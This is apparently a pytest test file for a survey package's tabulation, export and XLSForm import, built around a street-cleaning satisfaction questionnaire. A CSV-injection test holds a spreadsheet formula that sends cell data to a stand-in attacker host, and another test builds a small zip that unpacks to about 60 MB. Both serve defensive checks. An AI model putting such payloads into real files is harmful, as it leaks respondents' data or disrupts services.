"""Tabulation figures against values computed by hand, the small-group rule, exports, and
the Excel (XLSForm) import and export with errors named by sheet, row and column."""

from __future__ import annotations

import csv
import io
import math
import statistics

import pytest
from openpyxl import Workbook, load_workbook

from surveys import i18n as survey_i18n
from surveys import questionnaire as qn
from surveys import tabulation, templates, xlsform
from surveys.errors import InvalidInput
from surveys.tabulation import Answered

Z = 1.959963984540054  # the 97.5 % point of the normal distribution
T5 = 2.5705818366147395  # the 97.5 % point of Student's t with 5 degrees of freedom
LEAVES = [qn.SurveyLeaf("B1", "服务对象满意度", "survey_rate", "60", "服务对象评价", ("Q1",)),
          qn.SurveyLeaf("B2", "道路整洁程度评价", "survey_mean", "40", "服务对象评价", ("Q2", "Q3"))]
DOC = templates.build("street_cleaning", LEAVES)
S, F, N, D, NA = "satisfied", "fairly_satisfied", "neutral", "dissatisfied", "na"
SCORE = {S: 100, F: 80, N: 60, D: 0}
ROWS = [  # Q1, Q2, Q3, Q4, channel, text
    (S, S, F, "yes", "closed", "很干净"),
    (F, N, N, "yes", "closed", "早上清扫太吵"),
    (N, D, D, "yes", "closed", "垃圾桶常满"),
    (S, F, S, "no", "closed", "满意"),
    (D, NA, N, "no", "closed", "希望增加洒水"),
    (S, S, F, "no", "paper", "辛苦了"),
]


@pytest.fixture(autouse=True)
def english(monkeypatch):
    """The package's own messages, untranslated (the application may have installed its
    translator in this process)."""
    monkeypatch.setattr(survey_i18n, "_translator", survey_i18n._english)


def rows(data=ROWS) -> list[Answered]:
    return [Answered(channel, None, "2026-06-01",
                     {"Q1": q1, "Q2": q2, "Q3": q3, "Q4": q4, "Q5": "morning", "Q7": words})
            for q1, q2, q3, q4, channel, words in data]


def wilson(k: int, n: int) -> tuple[float, float]:
    p = k / n
    centre = (p + Z * Z / (2 * n)) / (1 + Z * Z / n)
    half = Z / (1 + Z * Z / n) * math.sqrt(p * (1 - p) / n + Z * Z / (4 * n * n))
    return centre - half, centre + half


@pytest.fixture
def tab(english):
    return tabulation.tabulate(DOC, rows(), issued=10, used=6, population=200)


def test_counts_response_rate_and_channels(tab):
    assert tab.responses == 6
    assert tab.by_channel == {"closed": 5, "open": 0, "paper": 1}
    assert tab.response_rate == pytest.approx(0.6)
    q1 = tab.questions[0]
    assert [(o.name, o.count) for o in q1.options] == [(S, 3), (F, 1), (N, 1), (D, 1), (NA, 0)]
    q2 = tab.questions[1]
    assert (q2.answered, q2.not_applicable, q2.blank) == (5, 1, 0)
    assert q2.options[-1].share is None  # 不了解 is no answer: it has no share of the answers


def test_a_question_mean_rate_and_intervals_by_hand(tab):
    q1 = tab.questions[0]
    scores = [SCORE[r[0]] for r in ROWS]
    mean = sum(scores) / 6
    half = T5 * statistics.stdev(scores) / math.sqrt(6)
    assert q1.mean.estimate == pytest.approx(440 / 6)
    # the t interval, clipped to the 0–100 scale (mean + half is 114.6)
    assert (q1.mean.low, q1.mean.high) == pytest.approx((mean - half, min(mean + half, 100)))
    assert (q1.hits, q1.answered) == (4, 6)
    assert q1.rate.estimate == pytest.approx(4 / 6)
    assert (q1.rate.low, q1.rate.high) == pytest.approx(wilson(4, 6))
    fpc = math.sqrt((200 - 6) / (200 - 1))
    assert q1.margin == pytest.approx(Z * math.sqrt(4 / 6 * 2 / 6 / 6) * fpc)
    yes = tab.questions[3]
    assert yes.rate.estimate == pytest.approx(0.5) and yes.hits == 3


def test_a_mean_interval_with_few_answers_stays_on_the_scale():
    # three answers (满意, 满意, 一般): the t interval of the mean, 86.67 ± 57.4, would run
    # past 100; it is shown clipped to the 0–100 scale, as is the pooled mean's
    few = tabulation.tabulate(DOC, rows([(S, S, S, "yes", "closed", ""),
                                         (S, S, S, "yes", "closed", ""),
                                         (N, N, N, "no", "closed", "")]))
    q1 = few.questions[0]
    scores = [100, 100, 60]
    half = 4.302652729911275 * statistics.stdev(scores) / math.sqrt(3)  # t, 2 d.f.
    assert q1.mean.estimate == pytest.approx(260 / 3)
    assert q1.mean.low == pytest.approx(260 / 3 - half)
    assert q1.mean.high == 100
    assert 0 <= few.mean.low and few.mean.high == 100


def wilson_p(p: float, n: float) -> tuple[float, float]:
    centre = (p + Z * Z / (2 * n)) / (1 + Z * Z / n)
    half = Z / (1 + Z * Z / n) * math.sqrt(p * (1 - p) / n + Z * Z / (4 * n * n))
    return centre - half, centre + half


def test_the_pooled_rate_mean_margin_and_sample_size_by_hand(tab):
    # counted answers: Q1 6 + Q2 5 (one 不了解) + Q3 6 = 17; satisfied: 4 + 3 + 3 = 10
    assert (tab.hits, tab.scale_answers) == (10, 17)
    p = 10 / 17
    assert tab.rate.estimate == pytest.approx(p)
    # the 17 answers come from 6 people: satisfied / answers per person are 3/3, 1/3, 0/3,
    # 3/3, 0/2, 3/3, so Σ (hᵢ − p·aᵢ)² = (441 + 169 + 900 + 441 + 400 + 441) / 289 = 2792/289
    # and the rate's variance over the people is that over 17², not p(1 − p)/17
    var = 2792 / 289 / 289
    assert tab.margin == pytest.approx(Z * math.sqrt(var) * math.sqrt((200 - 6) / 199))
    # Wilson's interval on the effective answers p(1 − p)/var = 20230/2792 ≈ 7.2, not 17
    assert (tab.rate.low, tab.rate.high) == pytest.approx(wilson_p(p, 20230 / 2792))
    assert tab.rate.high - tab.rate.low > wilson(10, 17)[1] - wilson(10, 17)[0]
    # the pooled mean: scores per person 280/3, 200/3, 60/3, 280/3, 60/2, 280/3; the ratio
    # estimator's standard error over the 6 people, t with 5 degrees of freedom
    pooled = [SCORE[v] for r in ROWS for v in r[:3] if v != NA]
    mean = sum(pooled) / 17
    assert tab.mean.estimate == pytest.approx(mean) == pytest.approx(1160 / 17)
    totals, answers = [280, 200, 60, 280, 60, 280], [3, 3, 3, 3, 2, 3]
    dev = sum((t - mean * a) ** 2 for t, a in zip(totals, answers, strict=True))
    half = T5 * math.sqrt(6 / 5 * dev) / 17
    assert (tab.mean.low, tab.mean.high) == pytest.approx((mean - half, 100))  # 102.9 clipped
    # n0 = z² · 0.25 / 0.05² = 384.15; with N = 200: 384.15 / (1 + 383.15 / 200) = 131.8 → 132
    n0 = Z * Z * 0.25 / 0.0025
    assert tab.sample_needed == math.ceil(n0 / (1 + (n0 - 1) / 200)) == 132
    assert tab.answered == 6 and tab.short
    assert any("132" in w for w in tab.warnings)


def test_cronbachs_alpha_by_hand(tab):
    complete = [[SCORE[v] for v in r[:3]] for r in ROWS if NA not in r[:3]]
    k = 3
    items = sum(statistics.variance(col) for col in zip(*complete, strict=True))
    total = statistics.variance([sum(line) for line in complete])
    assert tab.alpha.statistic == pytest.approx(k / (k - 1) * (1 - items / total))
    assert (tab.alpha.n, tab.alpha.n_dropped) == (5, 1)


def test_groups_and_free_text_are_shown_only_from_five_responses(tab):
    by_channel = {g.name: g for g in tab.breakdowns[0].groups}
    closed = by_channel[str(tabulation.CHANNEL_LABELS["closed"])]
    paper = by_channel[str(tabulation.CHANNEL_LABELS["paper"])]
    assert closed.shown and closed.responses == 5
    assert closed.rate.estimate == pytest.approx(7 / 14)
    assert not paper.shown and paper.rate is None and paper.mean is None
    words = next(t for t in tab.questions if t.type == "text")
    assert words.texts == sorted(r[5] for r in ROWS)  # sorted: no order of arrival
    few = tabulation.tabulate(DOC, rows(ROWS[:4]))
    hidden = next(t for t in few.questions if t.type == "text")
    assert hidden.texts is None and hidden.texts_hidden == 4
    assert not any(g.shown for b in few.breakdowns for g in b.groups)


def test_reliability_needs_enough_complete_answers():
    few = tabulation.tabulate(DOC, rows(ROWS[:2]))
    assert few.alpha is None and "3" in few.alpha_note


def test_export_with_labels_or_codes_and_no_free_text_below_five(tmp_path):
    header, body = tabulation.export_table(DOC, rows(), language="zh-CN")
    assert header[3].startswith("Q1 ") and len(body) == 6
    assert body[0][3] == "满意" and body[0][6] == "是"
    header, body = tabulation.export_table(DOC, rows(), codes=True)
    assert header[3:6] == ["Q1", "Q2", "Q3"] and body[0][3] == S
    assert "Q7" in header
    header, _body = tabulation.export_table(DOC, rows(ROWS[:4]), codes=True)
    assert "Q7" not in header
    data = tabulation.to_csv(*tabulation.export_table(DOC, rows()))
    assert data.startswith(b"\xef\xbb\xbf")
    assert len(list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))) == 7
    book = load_workbook(io.BytesIO(tabulation.to_xlsx(*tabulation.export_table(DOC, rows()))))
    assert book.active.max_row == 7


def test_no_answer_exported_can_start_a_formula():
    """A resident's free text such as =HYPERLINK(…) must reach Excel as text (CSV injection)."""
    header = ["编号", "Q7 建议"]
    body = [[1, '=HYPERLINK("http://evil.example/?d="&A2,"点我")'], [2, "+1+1"], [3, "-2+3"],
            [4, "@SUM(1,2)"], [5, "正常的建议"], [6, -1]]
    lines = list(csv.reader(io.StringIO(tabulation.to_csv(header, body).decode("utf-8-sig"))))
    assert [line[1] for line in lines[1:]] == [
        '\'=HYPERLINK("http://evil.example/?d="&A2,"点我")', "'+1+1", "'-2+3", "'@SUM(1,2)",
        "正常的建议", "-1"]  # a number stays a number
    sheet = load_workbook(io.BytesIO(tabulation.to_xlsx(header, body))).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert sheet["B2"].value.startswith("=HYPERLINK")  # shown as typed, but as text


def test_answers_to_what_a_later_version_dropped_are_still_counted_and_exported():
    """Version 2 drops option "evening" of Q5 and the questions Q6 and Q7: the answers given
    to version 1 stay in the tabulation and the export (nothing accepted is lost)."""
    import copy

    later = copy.deepcopy(DOC)
    later["questions"] = [q for q in later["questions"] if q["id"] not in ("Q6", "Q7")]
    q5 = next(q for q in later["questions"] if q["id"] == "Q5")
    q5["options"] = [o for o in q5["options"] if o["name"] != "evening"]
    q5["label"]["zh-CN"] = "您通常在什么时段见到保洁员？"  # reworded: the shown wording wins
    merged = qn.with_earlier(later, [DOC])
    assert [q["id"] for q in merged["questions"]] == ["Q1", "Q2", "Q3", "Q4", "Q5", "Q6", "Q7"]
    q5 = next(q for q in merged["questions"] if q["id"] == "Q5")
    assert [o["name"] for o in q5["options"]] == ["morning", "day", "evening"]
    assert q5["label"]["zh-CN"] == "您通常在什么时段见到保洁员？"
    assert qn.with_earlier(DOC, [DOC]) == DOC  # nothing dropped: nothing added
    answered = [Answered("closed", None, "2026-06-01", {"Q1": S, "Q5": "evening", "Q7": "好"})
                for _ in range(5)]
    table = tabulation.tabulate(merged, answered)
    counts = {q.id: q for q in table.questions}
    assert "Q7" in counts and "Q6" in counts
    header, body = tabulation.export_table(merged, answered, codes=True)
    assert "Q7" in header and body[0][header.index("Q5")] == "evening"
    assert body[0][header.index("Q7")] == "好"
    _header, shown_only = tabulation.export_table(later, answered, codes=True)
    assert "Q7" not in _header  # what the shown version alone would have lost


def test_the_rates_chart_and_distribution_charts_are_echarts_options(tab):
    option = tabulation.chart(tab.questions[0])
    assert option["yAxis"]["data"][0] == "满意"
    assert [d["value"] for d in option["series"][0]["data"]] == [3, 1, 1, 1, 0]
    bar = tabulation.rates_chart(tab)["series"][0]["data"][0]
    assert bar["value"] == pytest.approx(66.7) and bar["label"]["formatter"] == "66.7%"


# ---------------------------------------------------------------- XLSForm


def workbook(survey_rows, choice_rows, settings=None) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = "survey"
    for row in survey_rows:
        sheet.append(row)
    choices = book.create_sheet("choices")
    for row in choice_rows:
        choices.append(row)
    if settings:
        s = book.create_sheet("settings")
        for row in settings:
            s.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_an_exported_questionnaire_imports_back_equal():
    for key in templates.TEMPLATES:
        doc = templates.build(key, LEAVES)
        assert xlsform.import_workbook(xlsform.export_workbook(doc), LEAVES) == doc


def test_an_xlsform_with_scores_becomes_a_scale_mapped_to_its_leaf():
    data = workbook(
        [["type", "name", "label::zh-CN", "label::en", "required", "leaf"],
         ["select_one sat", "Q1", "总体满意吗？", "Overall?", "yes", "B1"],
         ["select_one yes_no", "Q2", "是否见过？", "Seen?", "no", ""],
         ["range", "Q3", "推荐程度", "Recommend", "yes", ""],
         ["select_multiple why", "Q4", "原因", "Why", "", ""],
         ["text", "Q5", "建议", "Comments", "no", ""]],
        [["list_name", "name", "label::zh-CN", "label::en", "score", "satisfied"],
         ["sat", "good", "满意", "Satisfied", 100, "yes"],
         ["sat", "bad", "不满意", "Dissatisfied", 0, ""],
         ["sat", "na", "不了解", "Don't know", None, ""],
         ["yes_no", "yes", "是", "Yes", None, ""], ["yes_no", "no", "否", "No", None, ""],
         ["why", "a", "甲", "A", None, ""], ["why", "b", "乙", "B", None, ""]],
        [["form_title", "form_title::en"], ["测试问卷", "Test survey"]])
    doc = xlsform.import_workbook(data, LEAVES)
    assert [q["type"] for q in doc["questions"]] == ["scale", "yes_no", "rating", "multiple", "text"]
    assert doc["questions"][0]["leaf"] == "B1"
    assert qn.scale_of(doc["questions"][0]) == {"满意": 100, "不满意": 0, "不了解": None}
    assert doc["title"] == {"zh-CN": "测试问卷", "en": "Test survey"}


def test_a_bad_workbook_names_sheet_row_and_column_of_every_fault():
    data = workbook(
        [["type", "name", "label::zh-CN", "required", "leaf"],
         ["select_one sat", "Q1", "总体满意吗？", "yes", "B9"],
         ["selectone sat", "Q2", "错的类型", "yes", ""],
         ["select_one sat", "Q3", "", "maybe", ""],
         ["select_one nolist", "Q4", "缺列表", "no", ""]],
        [["list_name", "name", "label::zh-CN", "score", "satisfied"],
         ["sat", "good", "满意", 100, "yes"],
         ["sat", "bad", "不满意", "lots", ""]])
    with pytest.raises(InvalidInput) as caught:
        xlsform.import_workbook(data, LEAVES)
    messages = list(caught.value.errors.values())
    expected = ["sheet choices, row 3, column D (score)",  # not a number
                "sheet survey, row 3, column A (type)",  # unknown type
                "sheet survey, row 4, column D (required)",  # maybe
                "sheet survey, row 5, column A (type)",  # no such list
                "sheet survey, row 2, column E (leaf)",  # B9 is not a survey leaf
                "sheet survey, row 4, column C (label::zh-CN)"]  # no label
    for where in expected:
        assert any(m.startswith(where) for m in messages), (where, messages)


def test_kobo_language_columns_and_the_list_name_spelling_are_read():
    data = workbook(
        [["type", "name", "label::Chinese (zh)", "label::English (en)", "hint::中文", "leaf"],
         ["select_one sat", "Q1", "总体满意吗？", "Satisfied overall?", "请选一项", "B1"]],
        [["list name", "name", "label::Chinese (zh)", "label::English (en)", "score", "satisfied"],
         ["sat", "good", "满意", "Satisfied", 100, "yes"],
         ["sat", "bad", "不满意", "Dissatisfied", 0, ""]],
        [["form_title::Chinese (zh)", "form_title::English (en)"], ["测试问卷", "Test survey"]])
    doc = xlsform.import_workbook(data, LEAVES)
    [q] = doc["questions"]
    assert q["label"] == {"zh-CN": "总体满意吗？", "en": "Satisfied overall?"}
    assert q["hint"]["zh-CN"] == "请选一项"
    assert doc["title"] == {"zh-CN": "测试问卷", "en": "Test survey"}
    assert qn.scale_of(q) == {"满意": 100, "不满意": 0}


def test_skip_logic_and_checks_are_refused_naming_the_cell_not_dropped():
    data = workbook(
        [["type", "name", "label", "required", "relevant"],
         ["select_one sat", "Q1", "总体满意吗？", "yes", ""],
         ["text", "Q2", "为什么不满意？", "yes", "${Q1} = 'bad'"]],
        [["list_name", "name", "label", "score", "satisfied"],
         ["sat", "good", "满意", 100, "yes"], ["sat", "bad", "不满意", 0, ""]])
    with pytest.raises(InvalidInput) as caught:
        xlsform.import_workbook(data, LEAVES)
    assert any(m.startswith("sheet survey, row 3, column E (relevant)")
               for m in caught.value.errors.values()), caught.value.errors


def test_formatted_empty_rows_below_the_questions_do_not_count():
    book = Workbook()
    survey = book.active
    survey.title = "survey"
    survey.append(["type", "name", "label"])
    survey.append(["text", "Q1", "建议"])
    from openpyxl.styles import Border, Side

    for number in range(3, 1600):  # borders down the sheet, no values
        survey.cell(row=number, column=1).border = Border(bottom=Side(style="thin"))
    assert survey.max_row == 1599
    book.create_sheet("choices").append(["list_name", "name", "label"])
    buffer = io.BytesIO()
    book.save(buffer)
    doc = xlsform.import_workbook(buffer.getvalue(), LEAVES)
    assert [q["id"] for q in doc["questions"]] == ["Q1"]


def test_a_workbook_that_unpacks_to_gigabytes_is_refused_before_it_is_read():
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (60 * 1024 * 1024))  # ~60 kB packed
    assert len(buffer.getvalue()) < xlsform.MAX_BYTES
    with pytest.raises(InvalidInput) as caught:
        xlsform.import_workbook(buffer.getvalue(), LEAVES)
    assert "50" in caught.value.errors["file"]


@pytest.mark.parametrize("labels, scores, satisfied", [
    (["非常满意", "满意", "一般", "不满意", "非常不满意", "不了解"], [100, 80, 60, 40, 0, None],
     [True, True, False, False, False, False]),
    (["满意", "较满意", "一般", "不满意"], [100, 80, 60, 0], [True, True, False, False]),
])
def test_a_satisfaction_list_without_scores_takes_the_platforms_scale(labels, scores, satisfied):
    """Kobo, ODK and 问卷星 files have no score column: a list whose levels are those of a
    platform scale is scored by it, so the question maps to its indicator."""
    data = workbook(
        [["type", "name", "label", "leaf"],
         ["select_one sat", "Q1", "总的来说，您满意吗？", "B1"],
         ["select_multiple sat", "Q2", "（多选）您对哪些方面满意？", ""],
         ["select_one when", "Q3", "通常什么时候？", ""]],
        [["list_name", "name", "label"]] + [["sat", f"s{i}", label] for i, label in enumerate(labels)]
        + [["when", "am", "上午"], ["when", "pm", "下午"]])
    doc = xlsform.import_workbook(data, LEAVES)
    q1, q2, q3 = doc["questions"]
    assert q1["type"] == "scale" and q1["leaf"] == "B1"
    assert [o["score"] for o in q1["options"]] == scores
    assert [o["satisfied"] for o in q1["options"]] == satisfied
    assert q2["type"] == "multiple" and "score" not in q2["options"][0]
    assert q3["type"] == "single"  # any other list stays as it is


def test_not_a_workbook_is_refused():
    with pytest.raises(InvalidInput) as caught:
        xlsform.import_workbook(b"PK\x03\x04 not really", LEAVES)
    assert "file" in caught.value.errors


def test_the_surveys_package_imports_nothing_of_the_application_or_the_web():
    """Dependencies point one way: evalplatform → surveys → scoring."""
    import subprocess
    import sys

    code = ("import sys, surveys, surveys.models, surveys.questionnaire, surveys.templates, "
            "surveys.xlsform, surveys.invitations, surveys.responses, surveys.tabulation, "
            "surveys.scoring_inputs; "
            "bad = sorted(m for m in sys.modules if m.split('.')[0] in "
            "('evalplatform', 'fastapi', 'starlette', 'jinja2')); print(bad); "
            "sys.exit(1 if bad else 0)")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_questionnaire_made_from_the_scheme_asks_residents_distinct_questions():
    """The satisfaction indicator asks about the service, not about "satisfaction"; one
    indicator asked in two questions never asks the same words twice; and it opens as made."""
    from surveys import templates

    doc = templates.from_scheme(LEAVES)
    labels = [q["label"]["zh-CN"] for q in qn.questions(doc)]
    assert labels == ["总体而言，您对这项服务满意吗？", "您对“道路整洁程度评价”满意吗？（第 1 方面）",
                      "您对“道路整洁程度评价”满意吗？（第 2 方面）"]
    assert qn.problems(doc, LEAVES) == {}


def test_a_placeholder_or_a_repeated_question_keeps_the_questionnaire_from_opening():
    from surveys import templates

    doc = templates.from_scheme(LEAVES)
    added, qid = qn.add_question(doc, "text", LEAVES)
    assert qn.problems(added, LEAVES) == {
        f"{qid}.label": "Write the question: it still reads as a new question's placeholder."}
    same = qn.update_question(doc, "Q3", {"label_zh": "您对“道路整洁程度评价”满意吗？（第 1 方面）",
                                          "leaf": "B2", "required": "1"}, LEAVES)
    assert set(qn.problems(same, LEAVES)) == {"Q3.label"}
    assert "Q2" in qn.problems(same, LEAVES)["Q3.label"]


def test_the_export_never_tells_the_day_or_site_of_a_group_of_fewer_than_five():
    """Residents are promised that groups of fewer than 5 answers are never shown: 5 answers
    online on one day keep their day; 2 at a counter's tablet and 1 on paper that day do not,
    so whoever saw who used the tablet cannot pick their answers out."""
    data = [Answered("closed", None, "2026-06-01", {"Q1": S})] * 5 + [
        Answered("open", 7, "2026-06-01", {"Q1": D}),
        Answered("open", 7, "2026-06-01", {"Q1": N}),
        Answered("paper", None, "2026-06-02", {"Q1": F})]
    _header, body = tabulation.export_table(DOC, data, codes=True, sites={7: "民政服务大厅"})
    assert [line[:3] for line in body] == [["2026-06-01", "closed", ""]] * 5 + [
        ["—", "open", "—"], ["—", "open", "—"], ["—", "paper", ""]]
    assert [line[3] for line in body[5:]] == [D, N, F]  # the answers themselves are all there


def test_slips_promise_the_time_the_questionnaire_takes():
    """15 seconds a question to choose and a minute to write, whole minutes, at least 1."""
    assert qn.minutes_to_answer(DOC) == 3  # 6 to choose, 1 to write in: 2½ minutes
    assert qn.minutes_to_answer({"questions": [{"id": "Q1", "type": "scale"}]}) == 1
    assert qn.minutes_to_answer({"questions": []}) == 1


def test_a_round_rate_is_labelled_with_its_decimal_as_the_tables_write_it():
    """3 of 5 satisfied: the bar reads 60.0%, as the table beside it, not 60%."""
    three_of_five = [(S, S, S, "yes", "closed", "")] * 3 + [(D, D, D, "no", "closed", "")] * 2
    tab = tabulation.tabulate(DOC, rows(three_of_five))
    assert [d["label"]["formatter"] for d in tabulation.rates_chart(tab)["series"][0]["data"]] \
        == ["60.0%", "60.0%", "60.0%"]


def test_two_options_for_a_one_answer_question_are_refused_not_the_last_one_kept():
    """A paper sheet with two boxes ticked on a scale question is refused naming it; the
    same option sent twice is still one answer."""
    from surveys.responses import parse_answers

    two = {"Q1": ["satisfied", "dissatisfied"], "Q2": [S], "Q3": [S], "Q4": ["yes"],
           "Q5": ["morning"]}
    with pytest.raises(InvalidInput) as refused:
        parse_answers(DOC, lambda name: two.get(name, []))
    assert set(refused.value.errors) == {"Q1"}
    once = {**two, "Q1": [S, S]}
    assert parse_answers(DOC, lambda name: once.get(name, []))["Q1"] == S
